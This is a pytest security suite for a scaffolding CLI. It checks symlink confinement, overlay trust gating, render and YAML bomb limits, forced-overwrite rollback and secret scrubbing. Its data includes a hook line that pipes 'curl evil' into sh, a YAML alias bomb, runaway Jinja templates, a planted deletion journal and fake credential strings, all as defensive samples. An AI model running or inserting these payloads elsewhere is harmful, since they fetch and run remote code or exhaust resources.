"""Hostile input, one reproducer per defect: names, links in check, overlays, bounded reads, --force, cache, secrets."""

from __future__ import annotations

import json
import os
import shutil
import stat
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from typer.testing import CliRunner

from scaffolder import safeio
from scaffolder._new import new
from scaffolder.cli import app
from scaffolder.errors import ScaffolderError, SpecError, TargetExistsError
from scaffolder.generate import _overlay as overlay_mod
from scaffolder.generate import plan_files, write_plan
from scaffolder.generate._plan import private_dir
from scaffolder.generate._write import recover
from scaffolder.provisioning.api import check_environment_name
from scaffolder.redact import scrub
from scaffolder.spec import check_deployment_name
from tests.helpers import make_spec

SECRET = "hunter2-TOP-SECRET-VALUE"
BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, "
    f"*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}]\n"
    for i in range(8)
)


def run(*args: str) -> tuple[int, str]:
    result = CliRunner().invoke(app, list(args))
    return result.exit_code, result.stdout + result.stderr


def assert_one_line_error(output: str) -> None:
    assert "Traceback" not in output
    assert output.count("error:") == 1, output


@pytest.fixture(scope="module")
def pristine(tmp_path_factory: pytest.TempPathFactory) -> Path:
    target = tmp_path_factory.mktemp("pristine") / "demo"
    new(make_spec("responses"), target)
    return target


@pytest.fixture
def repo(pristine: Path, tmp_path: Path) -> Path:
    target = tmp_path / "work" / "demo"
    shutil.copytree(pristine, target, symlinks=True)
    return target


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    folder = tmp_path / "outside"
    folder.mkdir()
    (folder / "secret.txt").write_text(f"TOKEN={SECRET}\n")
    (folder / "secret.bicep").write_text(f"param x string = '{SECRET}' oops {SECRET}\n")
    (folder / "secret.json").write_text(json.dumps({"parameters": {SECRET: {"value": SECRET}}}))
    return folder


# --- 3. names matched in full; names that shadow the stdlib or the app's dependencies -------------------------


@pytest.mark.parametrize("name", ["demo\n", "demo\r\n", "\ndemo"])
def test_project_name_with_newline_is_refused(tmp_path: Path, name: str) -> None:
    code, out = run("new", name, "-r", "responses", "--no-input", "-o", str(tmp_path))
    assert code == 2 and "may hold only lowercase letters" in out
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("name", ["typing", "json", "openai", "fastapi", "tests", "azure", "uvicorn", "pydantic"])
def test_names_shadowing_stdlib_or_dependencies_are_refused(tmp_path: Path, name: str) -> None:
    code, out = run("new", name, "-r", "responses", "--no-input", "-o", str(tmp_path))
    assert code == 2 and "shadows" in out and f"{name}-app" in out
    assert list(tmp_path.iterdir()) == []


def test_environment_and_deployment_names_are_matched_in_full() -> None:
    with pytest.raises(SpecError):
        check_environment_name("dev\n")
    assert check_environment_name("dev") == "dev"
    with pytest.raises(ValueError, match="deployment name"):
        check_deployment_name("chat\n")


# --- 4. check never follows a link out of the repo, never quotes outside content ------------------------------


def test_check_does_not_follow_links_out_of_the_repo(repo: Path, outside: Path) -> None:
    (repo / "infra" / "modules" / "leak.bicep").symlink_to(outside / "secret.bicep")
    (repo / ".env.example").unlink()
    (repo / ".env.example").symlink_to(outside / "secret.txt")
    (repo / "infra" / "main.parameters.json").unlink()
    (repo / "infra" / "main.parameters.json").symlink_to(outside / "secret.json")
    main = repo / "infra" / "main.bicep"
    main.write_text(main.read_text().replace("'modules/foundry-project.bicep'", "'../../../outside/secret.bicep'"))
    code, out = run("check", str(repo), "--offline", "--json")
    assert code == 1
    assert SECRET not in out
    rules = {f["rule"] for f in json.loads(out.split("\nnote:")[0])["findings"]}
    assert {"input/refused", "semantics/module-refused", "drift/changed"} <= rules


def test_check_refuses_an_answers_file_linked_out_of_the_repo(repo: Path, outside: Path) -> None:
    (outside / "answers.yml").write_text((repo / ".scaffolder.yml").read_text().replace("demo", SECRET))
    (repo / ".scaffolder.yml").unlink()
    (repo / ".scaffolder.yml").symlink_to(outside / "answers.yml")
    code, out = run("check", str(repo), "--offline")
    assert code == 2 and SECRET not in out and "outside the repo" in out


# --- 5. overlays confined, links stay inside, generator files and azd hooks need --trust ----------------------


def standards_with(tmp_path: Path, overlays: str, files: dict[str, str] | None = None) -> Path:
    team = tmp_path / "team"
    (team / "ovl").mkdir(parents=True, exist_ok=True)
    for rel, text in (files or {}).items():
        (team / "ovl" / rel).parent.mkdir(parents=True, exist_ok=True)
        (team / "ovl" / rel).write_text(text)
    path = team / "standards.yml"
    path.write_text(f"name: t\noverlays: [{overlays}]\n")
    return path


@pytest.mark.parametrize("where", ["/etc", "../elsewhere", "ovl/../../elsewhere"])
def test_overlays_must_stay_below_the_standards_folder(tmp_path: Path, where: str) -> None:
    (tmp_path / "elsewhere").mkdir()
    path = standards_with(tmp_path, json.dumps(where))
    code, out = run("new", "demo", "-r", "responses", "--no-input", "--standards", str(path), "-o",
                    str(tmp_path / "out"))
    assert code == 3 and "overlay" in out
    assert_one_line_error(out)
    assert not (tmp_path / "out").exists()


def test_overlay_links_must_not_leave_the_overlay(tmp_path: Path, outside: Path) -> None:
    path = standards_with(tmp_path, "ovl")
    (path.parent / "ovl" / "passwd").symlink_to(outside / "secret.txt")
    code, out = run("new", "demo", "-r", "responses", "--no-input", "--standards", str(path), "-o",
                    str(tmp_path / "out"))
    assert code == 3 and "link leading outside" in out and SECRET not in out
    assert not (tmp_path / "out").exists()
    (path.parent / "ovl" / "passwd").unlink()
    (path.parent / "ovl" / "linked").symlink_to(outside, target_is_directory=True)
    code, out = run("new", "demo", "-r", "responses", "--no-input", "--standards", str(path), "-o",
                    str(tmp_path / "out"))
    assert code == 3 and SECRET not in out and not (tmp_path / "out").exists()


@pytest.mark.parametrize("rel", ["azure.yaml", "README.md", "src/app/azure.yml", ".github/workflows/ci.yml"])
def test_overlay_replacing_generated_files_or_adding_azd_hooks_needs_trust(tmp_path: Path, rel: str) -> None:
    hooks = "name: x\nhooks:\n  preprovision:\n    run: curl evil | sh\n"
    path = standards_with(tmp_path, "ovl", {rel: hooks})
    out_dir = tmp_path / "out"
    for dry in ([], ["--dry-run"]):
        code, out = run("new", "demo", "-r", "responses", "--no-input", "--standards", str(path), "-o",
                        str(out_dir), *dry)
        assert code == 4 and rel in out and "--trust" in out
        assert not out_dir.exists()
    code, out = run("new", "demo", "-r", "responses", "--no-input", "--standards", str(path), "-o", str(out_dir),
                    "--trust")
    assert code == 0, out
    assert (out_dir / "demo" / rel).read_text() == hooks


def test_dry_run_with_untrusted_hooks_exits_like_the_real_run(tmp_path: Path) -> None:
    path = standards_with(tmp_path, "ovl", {"_hooks/post.py": "print('hi')\n"})
    code, out = run("new", "demo", "-r", "responses", "--no-input", "--standards", str(path), "--dry-run")
    assert code == 4 and "executable hooks" in out


# --- 6. overlay rendering errors: one line, exit 3, nothing left; output bounded ------------------------------

BAD_TEMPLATES = {
    "zero.txt.jinja": "{{ 1/0 }}",
    "type.txt.jinja": "{{ 1 + 'a' }}",
    "range.txt.jinja": "{% for i in range(10**9) %}x{% endfor %}",
    "macro.txt.jinja": "{% macro f(n) %}{{ f(n + 1) }}{% endmacro %}{{ f(0) }}",
    "{{ 'a\\x00b' }}.txt": "x",
    "{{ 'a\\nb' }}.txt": "x",
    "huge.txt.jinja": "{{ 'x' * 10**8 }}",
    "power.txt.jinja": "{{ 10 ** 100000000 }}",
    "loop.txt.jinja": "{% for i in range(99999) %}{% for j in range(99999) %}{{ 'abcdefgh' }}{% endfor %}{% endfor %}",
    "undefined.txt.jinja": "{{ nope.nope }}",
    "syntax.txt.jinja": "{% for %}",
    "bytes.bin.jinja": "\udcff",
}


@pytest.mark.parametrize("rel", sorted(BAD_TEMPLATES))
def test_overlay_render_errors_are_one_line_and_leave_nothing(tmp_path: Path, rel: str) -> None:
    path = standards_with(tmp_path, "ovl")
    (path.parent / "ovl" / rel).write_bytes(BAD_TEMPLATES[rel].encode("utf-8", "surrogateescape"))
    out_dir = tmp_path / "out" / "deeper"
    started = time.monotonic()
    code, out = run("new", "demo", "-r", "responses", "--no-input", "--standards", str(path), "-o", str(out_dir))
    assert time.monotonic() - started < 60
    assert code == 3, out
    assert_one_line_error(out)
    assert not (tmp_path / "out").exists()


def test_overlay_output_is_bounded_in_total(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(overlay_mod, "MAX_OVERLAY_TOTAL", 50_000)
    path = standards_with(tmp_path, "ovl", {f"f{i}.txt.jinja": "{{ 'y' * 20000 }}" for i in range(3)})
    code, out = run("new", "demo", "-r", "responses", "--no-input", "--standards", str(path), "-o",
                    str(tmp_path / "out"))
    assert code == 3 and "in all" in out


def test_runaway_overlay_stops_at_the_deadline(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(overlay_mod, "RENDER_SECONDS", 0.5)
    path = standards_with(tmp_path, "ovl", {"spin.txt.jinja": "{% for i in range(99999) %}{% for j in "
                                            "range(99999) %}{% endfor %}{% endfor %}"})
    started = time.monotonic()
    code, out = run("new", "demo", "-r", "responses", "--no-input", "--standards", str(path), "-o",
                    str(tmp_path / "out"))
    assert code == 3 and "took over" in out and time.monotonic() - started < 30


# --- 7. bounded reads: alias bombs, deep nesting, size, FIFOs, binary Bicep -----------------------------------


def test_yaml_alias_bomb_is_refused_fast_everywhere(tmp_path: Path, repo: Path) -> None:
    bomb = tmp_path / "bomb.yml"
    bomb.write_text(BOMB)
    for args, code_wanted in ((["new", "demo", "-r", "responses", "--no-input", "--standards", str(bomb)], 3),
                              (["new", "demo", "--no-input", "--decision", str(bomb)], 2),
                              (["recommend", "--answers", str(bomb), "--json"], 2)):
        started = time.monotonic()
        code, out = run(*args)
        assert time.monotonic() - started < 30 and code == code_wanted and "alias" in out and len(out) < 2000
    (repo / ".scaffolder.yml").write_text(BOMB)
    code, out = run("check", str(repo), "--offline")
    assert code == 2 and "alias" in out and len(out) < 2000


@pytest.mark.parametrize(("suffix", "text"), [
    (".yml", "[" * 50_000 + "]" * 50_000),
    (".yml", "a:\n" + "".join("  " * i + "b:\n" for i in range(1, 3000))),
    (".toml", "a = " + "[" * 5_000 + "]" * 5_000),
    (".json", "[" * 100_000),
])
def test_deep_nesting_is_one_line(tmp_path: Path, suffix: str, text: str) -> None:
    path = tmp_path / f"standards{suffix}"
    path.write_text(text)
    code, out = run("new", "demo", "-r", "responses", "--no-input", "--standards", str(path), "--dry-run")
    assert code == 3
    assert_one_line_error(out)


def test_huge_and_special_files_are_refused(tmp_path: Path) -> None:
    big = tmp_path / "big.yml"
    big.write_text("name: x\n" + "# padding\n" * 300_000)
    started = time.monotonic()
    code, out = run("new", "demo", "-r", "responses", "--no-input", "--standards", str(big), "--dry-run")
    assert code == 3 and "limit" in out and time.monotonic() - started < 30
    fifo = tmp_path / "fifo.yml"
    os.mkfifo(fifo)
    # A FIFO with no writer blocked forever before: run in a child with a timeout to prove it does not.
    done = subprocess.run([sys.executable, "-m", "scaffolder", "new", "demo", "-r", "responses", "--no-input",
                           "--standards", str(fifo), "--dry-run"], capture_output=True, text=True, timeout=180,
                          check=False)
    assert done.returncode == 3 and "not a regular file" in done.stderr
    code, out = run("new", "demo", "--no-input", "--decision", str(tmp_path))
    assert code == 2 and "directory" in out


def test_binary_and_deep_bicep_are_refused_fast(repo: Path) -> None:
    (repo / "infra" / "modules" / "blob.bicep").write_bytes(os.urandom(200_000))
    (repo / "infra" / "modules" / "deep.bicep").write_text("var x = " + "[" * 3000 + "1" + "]" * 3000 + "\n")
    (repo / "infra" / "main.parameters.json").write_text("[" * 100_000)
    (repo / "infra" / "modules" / "js.bicep").write_text("var x = json('" + "[" * 3000 + "]" * 3000 + "')\n"
                                                          "output y array = x\n")
    started = time.monotonic()
    code, out = run("check", str(repo), "--offline")
    assert time.monotonic() - started < 60
    assert code == 1 and "Traceback" not in out
    assert "blob.bicep is binary" in out and "deep.bicep nests deeper" in out


def test_safeio_bounds() -> None:
    with pytest.raises(Exception, match="alias"):
        safeio.load_yaml(BOMB)
    assert safeio.load_yaml("a: &x [1, 2]\nb: *x\n") == {"a": [1, 2], "b": [1, 2]}


# --- 8. --force: recoverable replacement, no writes through links, stale staging, -o parents ----------------


def tree(root: Path) -> dict[str, bytes]:
    return {p.relative_to(root).as_posix(): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}


def test_force_refuses_symlinked_folders_inside_the_target(repo: Path, outside: Path) -> None:
    shutil.rmtree(repo / "infra" / "modules")
    (repo / "infra" / "modules").symlink_to(outside, target_is_directory=True)
    before = tree(outside)
    with pytest.raises(TargetExistsError, match="symbolic link"):
        new(make_spec("responses"), repo, force=True)
    assert tree(outside) == before


def test_force_keeps_backups_of_overwritten_files(repo: Path) -> None:
    (repo / "README.md").write_text("my notes\n")
    result = new(make_spec("responses"), repo, force=True)
    assert result.backup is not None and (result.backup / "files" / "README.md").read_text() == "my notes\n"
    assert "my notes" not in (repo / "README.md").read_text()


def test_interrupted_force_is_rolled_back(repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (repo / "README.md").write_text("mine\n")
    (repo / "infra" / "main.bicep").write_text("// mine\n")
    (repo / "azure.yaml").unlink()
    before = tree(repo)
    real = Path.replace
    calls = {"n": 0}

    def flaky(self: Path, dest: Path) -> Path:
        calls["n"] += 1
        if calls["n"] == 3:
            raise KeyboardInterrupt
        return real(self, dest)

    monkeypatch.setattr(Path, "replace", flaky)
    with pytest.raises(KeyboardInterrupt):
        new(make_spec("responses"), repo, force=True)
    monkeypatch.setattr(Path, "replace", real)
    assert tree(repo) == before
    assert [p.name for p in repo.parent.iterdir()] == ["demo"]


KILLER = """
import os, sys
from pathlib import Path
from scaffolder._new import new
from tests.helpers import make_spec
real, n = Path.replace, {"calls": 0}
def dying(self, dest):
    n["calls"] += 1
    if n["calls"] == int(sys.argv[2]):
        os._exit(9)  # as SIGKILL: no cleanup runs
    return real(self, dest)
Path.replace = dying
new(make_spec("responses"), Path(sys.argv[1]), force=True)
"""


# Path.replace calls: 1 journal, then per entry (README.md, azure.yaml, infra/main.bicep) old aside + new in place.
@pytest.mark.parametrize("when", [3, 4, 5, 6])
def test_killed_force_is_rolled_back_by_the_next_run(repo: Path, when: int) -> None:
    (repo / "README.md").write_text("mine\n")
    (repo / "infra" / "main.bicep").write_text("// mine\n")
    (repo / "azure.yaml").unlink()
    before = tree(repo)
    root = Path(__file__).resolve().parents[1]
    done = subprocess.run([sys.executable, "-c", KILLER, str(repo), str(when)], cwd=root, timeout=120, check=False)
    assert done.returncode == 9
    assert tree(repo) != before  # the kill left a mixed tree ...
    recover(repo)  # ... which the next run rolls back first
    assert tree(repo) == before
    assert [p.name for p in repo.parent.iterdir()] == ["demo"]
    new(make_spec("responses"), repo, force=True)
    assert (repo / "azure.yaml").is_file() and "mine" not in (repo / "README.md").read_text()


def test_stale_staging_folders_are_cleaned(tmp_path: Path) -> None:
    parent = tmp_path / "out"
    (parent / ".demo.scaffolder-999999999-abc" / "infra").mkdir(parents=True)
    (parent / ".demo.scaffolder-oldformat").mkdir()
    live = parent / f".demo.scaffolder-{os.getpid()}-live"
    live.mkdir()
    new(make_spec("responses"), parent / "demo")
    assert sorted(p.name for p in parent.iterdir()) == sorted(["demo", live.name])


def test_output_parents_are_removed_when_the_run_fails(tmp_path: Path) -> None:
    path = standards_with(tmp_path, "ovl", {"_hooks/fail.py": "import sys; sys.exit('no')\n"})
    code, out = run("new", "demo", "-r", "responses", "--no-input", "--standards", str(path), "--trust", "-o",
                    str(tmp_path / "a" / "b" / "c"))
    assert code == 1 and "no" in out
    assert not (tmp_path / "a").exists()


def test_write_plan_refuses_a_linked_target_file(repo: Path, outside: Path) -> None:
    (repo / "README.md").unlink()
    (repo / "README.md").symlink_to(outside / "secret.txt")
    with pytest.raises(TargetExistsError, match="symbolic link"):
        write_plan(plan_files(make_spec("responses")), repo, force=True)
    assert SECRET in (outside / "secret.txt").read_text()


# --- 9. Jinja bytecode cache: private and ours ----------------------------------------------------------------


def test_bytecode_cache_is_private(tmp_path: Path) -> None:
    folder = private_dir(tmp_path / "cache" / "jinja")
    assert folder is not None and stat.S_IMODE(folder.stat().st_mode) == 0o700
    open_folder = tmp_path / "open"
    open_folder.mkdir(mode=0o777)
    open_folder.chmod(0o777)
    assert private_dir(open_folder) == open_folder and stat.S_IMODE(open_folder.stat().st_mode) == 0o700
    link = tmp_path / "link"
    link.symlink_to(open_folder, target_is_directory=True)
    assert private_dir(link) is None


@pytest.mark.skipif(os.geteuid() != 0, reason="chown to another user needs root")
def test_bytecode_cache_owned_by_another_user_is_not_used(tmp_path: Path) -> None:
    folder = tmp_path / "theirs"
    folder.mkdir(mode=0o700)
    os.chown(folder, 65534, 65534)
    assert private_dir(folder) is None


def test_new_creates_the_cache_private(tmp_path: Path) -> None:
    new(make_spec("responses"), tmp_path / "demo")
    cache = Path(os.environ.get("XDG_CACHE_HOME") or Path.home() / ".cache") / "foundry-scaffolder"
    jinja = next(cache.glob("jinja-*"))
    assert stat.S_IMODE(jinja.stat().st_mode) == 0o700


# --- 10. secrets scrubbed from every message ------------------------------------------------------------------

SECRETS = [
    ("InstrumentationKey=0f0e0d0c-0000-4000-8000-123456789abc;IngestionEndpoint=https://x/", "0f0e0d0c"),
    ("https://acct.blob.core.windows.net/c?sv=2024-01-01&sig=AbC%2Bdef123%3D&se=2030", "AbC%2Bdef123"),
    ("Authorization: Bearer eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJhYmMifQ.c2lnbmF0dXJl", "eyJhbGciOiJSUzI1NiJ9"),
    ("client_secret=Zx8Q~abcdefghijklmnopqrstuvwxyz0123456", "abcdefghijklmnop"),
    ('{"client_secret": "s3cr3t-v4lue"}', "s3cr3t-v4lue"),
    ("DefaultEndpointsProtocol=https;AccountKey=" + "k" * 86 + "==;EndpointSuffix=core", "kkkkkkkk"),
    ("the key " + "Q" * 86 + "== leaked", "QQQQQQQQ"),
    ("Endpoint=sb://x/;SharedAccessKeyName=root;SharedAccessKey=abcDEF123+/=", "abcDEF123"),
    ("api-key: 0123456789abcdef0123", "0123456789abcdef"),
]


@pytest.mark.parametrize(("text", "secret"), SECRETS)
def test_scrub_masks_known_secret_shapes(text: str, secret: str) -> None:
    assert secret not in scrub(text) and "***" in scrub(text)


def test_scrub_leaves_ordinary_messages_alone() -> None:
    for text in ("region westus is not allowed; allowed: eastus2", "model gpt-5.4-mini@2026-03-17",
                 "tag 'owner' is required", "https://example.com/path?x=1"):
        assert scrub(text) == text


def test_cli_messages_are_scrubbed() -> None:
    code, out = run("new", "demo", "-r", "responses", "--no-input", "-m",
                    "gpt-5.4-mini,client_secret=Zx8Q~abcdefghijklmnopqrstuvwxyz0123456", "--dry-run")
    assert code == 2 and "abcdefghijklmnop" not in out and "client_secret=***" in out


@pytest.fixture(autouse=True)
def _no_stray_alarm() -> Iterator[None]:
    yield
    import signal

    assert signal.getitimer(signal.ITIMER_REAL) == (0.0, 0.0)


# --- update reads the repo it merges into (review of issue 10) ---------------------------------------------------


def _git_commit_all(root: Path) -> None:
    env = {"GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@example.com", "GIT_COMMITTER_NAME": "t",
           "GIT_COMMITTER_EMAIL": "t@example.com", "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
           "HOME": str(root)}
    if not (root / ".git").exists():
        subprocess.run(["git", "-C", str(root), "init", "-q"], check=True, env=env)
    subprocess.run(["git", "-C", str(root), "add", "-A"], check=True, env=env)
    subprocess.run(["git", "-C", str(root), "commit", "-qm", "state"], check=True, env=env)


@pytest.mark.parametrize("dry_run", [True, False])
def test_update_never_reads_through_a_linked_folder(repo: Path, tmp_path: Path, dry_run: bool) -> None:
    """A pull request links src/demo to a folder outside: update must not put its content in the diff,
    the merge or the conflict markers, and must not write there."""
    package = repo / "src" / "demo"
    away = tmp_path / "away"
    shutil.copytree(package, away)
    (away / "chat.py").write_text(f"TOKEN={SECRET}\n")
    shutil.rmtree(package)
    package.symlink_to(away, target_is_directory=True)
    _git_commit_all(repo)
    before = {p.name: p.read_bytes() for p in away.iterdir() if p.is_file()}
    code, out = run("update", str(repo), "-r", "inference", *(["--dry-run"] if dry_run else []))
    assert SECRET not in out
    assert "Traceback" not in out
    assert {p.name: p.read_bytes() for p in away.iterdir() if p.is_file()} == before
    assert code in (0, 1, 5), out


def test_pristine_archive_entries_are_bounded_not_only_its_files() -> None:
    """.scaffolder/pristine.tar.gz comes with the repo: directory entries count toward the bound too (before,
    only files did, so any number of headers was decompressed and held)."""
    import io
    import tarfile

    from scaffolder.errors import TemplateError
    from scaffolder.generate._plan import PRISTINE_MAX_FILES, unpack_pristine

    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for i in range(PRISTINE_MAX_FILES + 1):
            info = tarfile.TarInfo(f"d{i}")
            info.type = tarfile.DIRTYPE
            tar.addfile(info)
    with pytest.raises(TemplateError, match="entries"):
        unpack_pristine(buf.getvalue())


def test_update_does_not_read_a_pristine_archive_through_a_linked_folder(repo: Path, tmp_path: Path) -> None:
    from scaffolder._update import merge_base
    from scaffolder.spec import load_answers

    away = tmp_path / "away"
    shutil.copytree(repo / ".scaffolder", away)
    shutil.rmtree(repo / ".scaffolder")
    (repo / ".scaffolder").symlink_to(away, target_is_directory=True)
    spec, version = load_answers(repo)
    try:
        _, source = merge_base(repo, spec, version, [], set())
    except ScaffolderError as exc:  # a refusal is fine; reading the linked archive is not
        source = str(exc)
    assert "pristine" not in source.split("(")[0]


@pytest.mark.parametrize("plant", [".azure", ".azure/dev", ".azure/dev/.env", ".azure/config.json"])
def test_provision_env_file_is_never_written_through_a_link(tmp_path: Path, plant: str) -> None:
    """A repo can carry links under .azure/: provision's .env (and azd's config.json) must not follow them
    (before: the outputs were written to, and an outside .env read from, wherever the link pointed)."""
    from scaffolder.errors import ProvisionError
    from scaffolder.provisioning.api import write_env_file
    from scaffolder.provisioning.plan import Target

    repo_dir = tmp_path / "repo"
    repo_dir.mkdir()
    away = tmp_path / "away"
    away.mkdir()
    (away / "dev").mkdir()
    (away / ".env").write_text(f"TOKEN={SECRET}\n")
    link = repo_dir / plant
    link.parent.mkdir(parents=True, exist_ok=True)
    # A folder link for folders; a dangling link for config.json (exists() is False, write_text follows it).
    link.symlink_to(away / ("dev" if plant == ".azure/dev" else "x.json") if plant != ".azure" else away)
    if plant == ".azure/dev/.env":
        link.unlink()
        link.symlink_to(away / ".env")
    before = sorted(p.relative_to(away).as_posix() for p in away.rglob("*"))
    with pytest.raises(ProvisionError, match="symbolic link"):
        write_env_file(repo_dir, Target("s", "rg", "eastus2", "dev"), {"OUT": "1"})
    assert sorted(p.relative_to(away).as_posix() for p in away.rglob("*")) == before
    assert (away / ".env").read_text() == f"TOKEN={SECRET}\n"


@pytest.mark.parametrize("field", ["staging", "entries", "target"])
def test_planted_journal_beside_the_target_is_not_obeyed(repo: Path, tmp_path: Path, field: str) -> None:
    """The backup folder sits beside the target, where a checkout or another user may write: a planted
    journal must not make the next --force run delete or move files outside the target (before: its
    `staging` was rmtree'd, its `..` entries unlinked, its `target` used as given)."""
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "keep.txt").write_text("precious\n")
    rel_up = os.path.relpath(victim / "keep.txt", repo)
    doc: dict[str, object] = {
        "target": str(repo.parent.resolve() / repo.name), "staging": None, "state": "replacing",
        "entries": [], "pid": 999_999_999,
    }
    if field == "staging":
        doc["staging"] = str(victim)
    elif field == "entries":
        doc["entries"] = [{"path": rel_up, "existed": False}]
    else:
        doc["target"] = str(victim)
        doc["entries"] = [{"path": "keep.txt", "existed": False}]
    planted = repo.parent / f".{repo.name}.scaffolder-backup-20260101T000000-x"
    planted.mkdir()
    (planted / "journal.json").write_text(json.dumps(doc))
    recover(repo.parent.resolve() / repo.name)
    assert (victim / "keep.txt").read_text() == "precious\n"


@pytest.mark.parametrize(("text", "secret"), [
    # --json escapes the quotes of a quoted pair: the scrubber must still see it.
    (json.dumps({"message": 'body {"password": "hunter2-json"}'}), "hunter2-json"),
    (json.dumps({"message": '"access_token": "hunter2-tok"'}), "hunter2-tok"),
    # environment dumps and headers name keys with a prefix
    ("AZURE_OPENAI_API_KEY=hunter2-env", "hunter2-env"),
    ("SECRET_TOKEN=hunter2-st", "hunter2-st"),
    ("Ocp-Apim-Subscription-Key: 0123456789abcdef0123456789abcdef", "0123456789abcdef0123456789abcdef"),
    ("x-api-key: hunter2-hdr", "hunter2-hdr"),
    ("push with ghp_" + "A1" * 18, "A1" * 18),
    ("key id AKIAABCDEFGHIJKLMNOP", "AKIAABCDEFGHIJKLMNOP"),
])
def test_scrub_masks_prefixed_names_and_json_escaped_pairs(text: str, secret: str) -> None:
    assert secret not in scrub(text), scrub(text)


def test_scrub_keeps_messages_that_merely_mention_tokens() -> None:
    for text in ("cannot get token: credential unavailable", "max_tokens=100", "tokens: 5 of 128",
                 "the key vault name kv-demo is taken"):
        assert scrub(text) == text


@pytest.mark.parametrize("rel", ["AZURE.YAML", "Azure.yml", "README.MD", "azure.yaml."])
def test_overlay_case_tricks_still_need_trust(tmp_path: Path, rel: str) -> None:
    """On a case-insensitive file system (macOS, Windows) AZURE.YAML replaces azure.yaml: the trust gate
    must see through case and Windows' dropped trailing dots."""
    path = standards_with(tmp_path, "ovl", {rel: "name: x\nhooks:\n  preprovision:\n    run: curl evil | sh\n"})
    code, out = run("new", "demo", "-r", "responses", "--no-input", "--standards", str(path), "--dry-run")
    assert code == 4 and "--trust" in out, out


@pytest.mark.parametrize("rel", ["INFRA/main.bicep", "Infra/x.bicep", ".Scaffolder.yml"])
def test_overlay_case_tricks_cannot_reach_protected_files(tmp_path: Path, rel: str) -> None:
    path = standards_with(tmp_path, "ovl", {rel: "x\n"})
    code, out = run("new", "demo", "-r", "responses", "--no-input", "--standards", str(path), "--dry-run")
    assert code == 3 and "generator owns" in out, out


@pytest.mark.skipif(os.geteuid() != 0, reason="chown to another user needs root")
def test_stale_staging_cleanup_leaves_other_users_and_update_scratch_alone(tmp_path: Path) -> None:
    from scaffolder.generate._write import clean_stale_staging

    target = tmp_path / "demo"
    theirs = tmp_path / ".demo.scaffolder-999999999-abc"
    theirs.mkdir()
    os.chown(theirs, 12345, 12345)
    scratch = tmp_path / ".demo.scaffolder-merge-abc"  # a concurrent `update`'s merge scratch folder
    scratch.mkdir()
    mine = tmp_path / ".demo.scaffolder-999999999-def"
    mine.mkdir()
    assert clean_stale_staging(target) == [mine]
    assert theirs.exists() and scratch.exists() and not mine.exists()


@pytest.mark.parametrize("swap", ["file", "folder"])
def test_check_reads_are_race_free(repo: Path, outside: Path, swap: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """A link swapped in between check's "is it inside the repo?" and its read must not lead out (before:
    the path was checked, then opened again following links)."""
    from scaffolder.checks import _read_bytes

    rel = "docs" if swap == "folder" else "README.md"
    victim = repo / rel
    target = repo / "docs" / "x.md" if swap == "folder" else victim
    if swap == "folder":
        target.write_text("inside\n")
        (outside / "x.md").write_text(f"TOKEN={SECRET}\n")
    real_resolve = Path.resolve
    swapped = {"done": False}

    def resolve_then_swap(self: Path, strict: bool = False) -> Path:
        out = real_resolve(self, strict=strict)
        if self == target and not swapped["done"]:
            swapped["done"] = True
            if swap == "folder":
                shutil.rmtree(victim)
                victim.symlink_to(outside, target_is_directory=True)
            else:
                victim.unlink()
                victim.symlink_to(outside / "secret.txt")
        return out

    monkeypatch.setattr(Path, "resolve", resolve_then_swap)
    data = _read_bytes(repo, target)
    assert swapped["done"]
    assert data is None or SECRET.encode() not in data


@pytest.mark.parametrize("command", ["provision", "preflight", "destroy"])
def test_provisioning_json_is_scrubbed(command: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """--json of the provisioning commands carries ARM operation messages and errors verbatim: a message
    quoting a key must not reach the log (before: only check's --json was scrubbed)."""
    from scaffolder.provisioning import api

    class Result:
        ok = True

        def as_dict(self) -> dict[str, object]:
            return {"operations": [{"message": f"conflict: AccountKey={SECRET};EndpointSuffix=x"}],
                    "error": f"Bearer {SECRET}"}

    method = {"provision": "apply"}.get(command, command)  # the CLI calls the Provisioner's methods
    monkeypatch.setattr(api.Provisioner, method, lambda *a, **k: Result())
    monkeypatch.delenv("SCAFFOLDER_STANDARDS", raising=False)
    code, out = run(command, str(tmp_path), "-s", "00000000-0000-0000-0000-000000000000", "-g", "rg",
                    *([] if command == "preflight" else ["--yes"]), "--json")
    assert code == 0, out
    assert SECRET not in out and "AccountKey=***" in out


def test_preflight_text_output_is_scrubbed(capsys: pytest.CaptureFixture[str]) -> None:
    """The text form of preflight prints each check's message (ARM's or the credential's words) as is."""
    from scaffolder._render_provision import render_preflight
    from scaffolder.provisioning.preflight import Check, PreflightResult

    render_preflight(PreflightResult(checks=[Check("credential", "fail", f"token request said client_secret={SECRET}",
                                                   fix=f"use AccountKey={SECRET}")]))
    err = capsys.readouterr().err
    assert SECRET not in err and "client_secret=***" in err
